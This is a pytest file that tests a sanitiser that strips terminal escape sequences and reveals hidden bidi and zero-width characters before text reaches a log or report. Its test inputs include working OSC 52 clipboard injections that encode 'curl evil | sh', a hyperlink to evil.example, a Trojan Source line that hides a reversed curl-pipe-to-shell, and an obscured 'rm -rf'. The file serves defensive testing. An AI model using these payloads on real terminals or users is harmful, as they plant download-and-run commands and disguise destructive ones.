"""A line from someone else's file reaches neither the terminal nor the report with an escape in it:
the gate log, the report and every screen strip with one definition (cockpit/printable.py)."""

from __future__ import annotations

import pytest

from cockpit.gates.output import terminal_line
from cockpit.printable import printable
from cockpit.report.text import clean_block, clean_line

HOSTILE = [
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",  # OSC 52: the clipboard
    "\x1b]0;owned\x1b\\",  # OSC 0: the window title, ST-terminated
    "\x1bP+q544e\x1b\\",  # DCS: a terminfo query
    "\x1b_payload\x1b\\",  # APC
    "\x1b[?1049h",  # the alternate screen
    "\x1b]8;;http://evil.example\x1b\\",  # OSC 8: a hyperlink
    "\x1b[2J",  # erase the screen
    "\x9b2J",  # the same, with the 8-bit CSI
    "\x9d52;c;Y3VybCBldmlsIHwgc2g=\x07",  # OSC 52 with the 8-bit OSC
    "\x90+q544e\x9c",  # DCS with the 8-bit introducer and terminator
]


@pytest.mark.parametrize("escape", HOSTILE)
def test_an_escape_in_a_line_reaches_neither_the_log_nor_the_report(escape: str) -> None:
    line = f"before {escape}after"
    for cleaned in (terminal_line(line), clean_line(line), clean_block(line)):
        assert "\x1b" not in cleaned and cleaned.startswith("before ") and cleaned.endswith("after")


@pytest.mark.parametrize("escape", HOSTILE)
def test_the_door_removes_an_escape_and_keeps_the_words_around_it(escape: str) -> None:
    assert printable(f"before {escape}after\tand\nnext") == "before after\tand\nnext"


def test_an_unterminated_escape_stops_at_the_end_of_its_line() -> None:
    # an OSC never closed must not swallow the rest of a SESSION.md
    assert printable("a \x1b]52;c;never closed\nthe rest\r\n") == "a \nthe rest\r\n"


def test_lone_controls_go_or_are_marked_where_a_report_shows_a_byte_was_there() -> None:
    assert printable("bell\x07 cr\r del\x7f c1\x85 esc\x1b") == "bell cr del c1 esc"
    assert printable("nul\x00 cr\r", mark="\ufffd") == "nul\ufffd cr\ufffd"


# What is shown is what is there (Trojan Source) ------------------------------------------------

def test_a_right_to_left_override_is_shown_as_its_code_point_so_the_words_read_as_stored() -> None:
    assert printable("run \u202ehs | moc.live//:ptth lruc\u202c") == "run <U+202E>hs | moc.live//:ptth lruc<U+202C>"
    assert clean_line("a\u2067b\u2069") == "a<U+2067>b<U+2069>"
    assert terminal_line("x\u200by\x1b[2J") == "x<U+200B>y"


@pytest.mark.parametrize("hidden", ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067",
                                    "\u2068", "\u2069", "\u200e", "\u200f", "\u061c", "\u200b", "\u200c",
                                    "\u200d", "\u2060", "\ufeff", "\u00ad", "\U000e0041", "\u2028", "\u3164"])
def test_every_bidi_control_and_zero_width_character_is_shown(hidden: str) -> None:
    assert printable(f"a{hidden}b") == f"a<U+{ord(hidden):04X}>b"


def test_every_format_character_that_draws_nothing_is_shown() -> None:
    """Every Unicode format character (category Cf) this Python knows is shown, but the number
    signs that draw a sign of their own (Arabic, Syriac, Kaithi)."""
    import sys
    import unicodedata

    drawn = {0x0600, 0x0601, 0x0602, 0x0603, 0x0604, 0x0605, 0x06DD, 0x070F, 0x0890, 0x0891, 0x08E2,
             0x110BD, 0x110CD}
    missed = [f"U+{c:04X}" for c in range(sys.maxunicode + 1)
              if unicodedata.category(chr(c)) == "Cf" and c not in drawn and printable(chr(c)) == chr(c)]
    assert not missed
    assert all(printable(chr(c)) == chr(c) for c in drawn)


@pytest.mark.parametrize("text", [
    "café naïve Ångström", "注意力 カーネル 커널", "שלום עולם مرحبا",  # accents, CJK, right-to-left letters
    "\U0001F468\u200d\U0001F4BB", "\U0001F468\U0001F3FD\u200d\U0001F4BB",  # technologist, with a skin tone
    "\u2764\ufe0f\u200d\U0001F525", "\U0001F3F3\ufe0f\u200d\U0001F308",  # heart on fire, rainbow flag
    "\U0001F3F4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",  # the flag of Scotland (tags)
    "x² ≤ 1 — ‘quoted’ … ✓ ⚑ 🚀",
])
def test_ordinary_text_passes_the_door_unchanged(text: str) -> None:
    """A joiner inside an emoji sequence draws one picture and is kept; so are a subdivision
    flag's tags. Letters of right-to-left scripts are text, not controls."""
    assert printable(text) == text and clean_line(text) == text


def test_a_joiner_or_a_tag_outside_an_emoji_is_shown() -> None:
    assert printable("rm\u200d -rf") == "rm<U+200D> -rf"
    assert printable("ok\U000e0069\U000e0067") == "ok<U+E0069><U+E0067>"  # ASCII smuggled in tags


def test_the_door_twice_is_the_door_once() -> None:
    once = printable("a\u202eb\x1b[2J\x07c", mark="\ufffd")
    assert printable(once, mark="\ufffd") == once == "a<U+202E>b\ufffdc"
